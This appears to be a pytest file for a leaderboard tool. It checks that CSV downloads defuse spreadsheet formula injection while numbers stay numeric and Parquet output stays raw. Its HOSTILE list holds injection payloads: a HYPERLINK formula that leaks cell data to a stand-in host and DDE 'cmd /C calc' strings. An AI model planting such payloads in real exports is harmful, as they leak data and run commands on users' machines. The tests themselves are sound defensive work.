"""CSV downloads never carry a live spreadsheet formula; numbers stay numbers; Parquet keeps the raw text."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import subprocess
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from dualboard.cli import main
from dualboard.csv_download import FORMULA_TRIGGERS, download_csv, neutralise_formulas
from tests.conftest import TINY_QUESTIONS, tiny_metadata, write_run

HOSTILE = [
    '=HYPERLINK("https://x.example/?"&A2,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_back(text: str) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(text), keep_default_na=False, dtype=str)


@pytest.mark.parametrize("value", HOSTILE)
def test_every_trigger_in_a_text_column_is_quoted(value: str) -> None:
    frame = pd.DataFrame({"model": [value, "plain", None], "score": [-1.5, 2.0, -0.0]})
    back = pd.read_csv(io.StringIO(download_csv(frame)))
    assert back["model"].iloc[0] == "'" + value and back["model"].iloc[1] == "plain" and pd.isna(back["model"].iloc[2])
    assert back["score"].tolist() == [-1.5, 2.0, -0.0]


@pytest.mark.parametrize("value", ["x;=1+1;", "x,=1+1", "x\r=1+1", "x\n=1+1", 'x";=1+1', "x\t=1+1"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_separator_or_line_break_inside_a_cell_starts_a_formula(value: str, separator: str) -> None:
    """Text cells are quoted, so a spreadsheet splitting on ``;`` or tabs, or at line breaks, finds no formula cell."""
    text = download_csv(pd.DataFrame({"model": [value], "score": [-1.0]}))
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS) and not _is_number(cell)], cells
    assert read_back(text)["model"].tolist() == [value]


def test_only_text_columns_change() -> None:
    """Negative numbers of every numeric kind, booleans, dates and missing values are left alone."""
    frame = pd.DataFrame(
        {
            "run_id": pd.Series(["-a", "b"], dtype="string"),
            "category": pd.Categorical(["@c", "@c"]),
            "mixed": pd.Series([-1, "-1"], dtype=object),
            "diff": [-3.25, -1e-300],
            "rank": pd.array([-1, None], dtype="Int64"),
            "n": [-5, 0],
            "significant": [True, False],
            "date": pd.to_datetime(["2026-01-02", "2026-01-03"]),
        }
    )
    out = neutralise_formulas(frame)
    assert out["run_id"].tolist() == ["'-a", "b"] and out["category"].tolist() == ["'@c", "'@c"]
    assert out["mixed"].tolist() == [-1, "'-1"]
    for column in ("diff", "rank", "n", "significant", "date"):
        pd.testing.assert_series_equal(out[column], frame[column])
    assert frame["run_id"].tolist() == ["-a", "b"], "the input frame is not changed"
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.fixture
def hostile_release(tiny_root: Path) -> Path:
    """The tiny leaderboard with hostile model names and category, built and released once."""
    questions = [{**q, "category": HOSTILE[0]} if q["id"] == "q1" else q for q in TINY_QUESTIONS]
    bench = tiny_root / "data" / "benchmarks" / "tiny" / "questions.jsonl"
    bench.write_text("".join(json.dumps(q) + "\n" for q in questions), "utf-8")
    write_run(tiny_root, "run-a", metadata=tiny_metadata(model=HOSTILE[1]))
    write_run(tiny_root, "run-b", metadata=tiny_metadata(model=HOSTILE[3]))
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.invalid",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.invalid",
    }
    for args in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "board"]):
        subprocess.run(["git", "-C", str(tiny_root), *args], check=True, env=env, capture_output=True)
    for key in ("GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL"):
        os.environ.setdefault(key, env[key])
    for args in (["build", "--no-progress"], ["release", "0.1", "--date", "2026-11-01"]):
        result = CliRunner().invoke(main, [*args, "--root", str(tiny_root)])
        assert result.exit_code == 0, result.output + str(result.exception)
    return tiny_root


@pytest.mark.slow
def test_release_and_site_csvs_are_neutralised_and_parquet_is_raw(hostile_release: Path) -> None:
    release = hostile_release / "releases" / "0.1"
    scored_csv = read_back((release / "scored" / "tiny.csv").read_text("utf-8"))
    scored = pd.read_parquet(release / "scored" / "tiny.parquet")
    assert set(scored["model"]) == {HOSTILE[1], HOSTILE[3]} and HOSTILE[0] in set(scored["category"])
    assert set(scored_csv["model"]) == {"'" + HOSTILE[1], "'" + HOSTILE[3]}
    assert "'" + HOSTILE[0] in set(scored_csv["category"])
    assert pd.to_numeric(scored_csv["traditional"]).tolist() == scored["traditional"].tolist()
    carried = hostile_release / "build" / "carried-models.csv"  # the copy the release's site carries, on gh-pages
    shared = "shared/" + hashlib.sha256((release / "stats" / "tiny" / "models.csv").read_bytes()).hexdigest()
    carried.write_bytes(
        subprocess.run(
            ["git", "-C", str(hostile_release), "show", f"gh-pages:{shared}/stats/tiny/models.csv"],
            check=True,
            capture_output=True,
        ).stdout
    )
    downloads = [release / "stats" / "tiny" / "models.csv", carried]
    for path in downloads:
        models = pd.read_csv(path)
        assert set(models["model"]) == {"'" + HOSTILE[1], "'" + HOSTILE[3]}, path
        assert models.select_dtypes("number").shape[1] > 10, f"{path}: numeric columns stay numeric"
    for path in [*release.rglob("*.csv"), carried, *hostile_release.glob("site/downloads/**/*.csv")]:
        cells = read_back(path.read_text("utf-8")).to_numpy().ravel()
        live = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS) and not _is_number(cell)]
        assert not live, (path, live)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
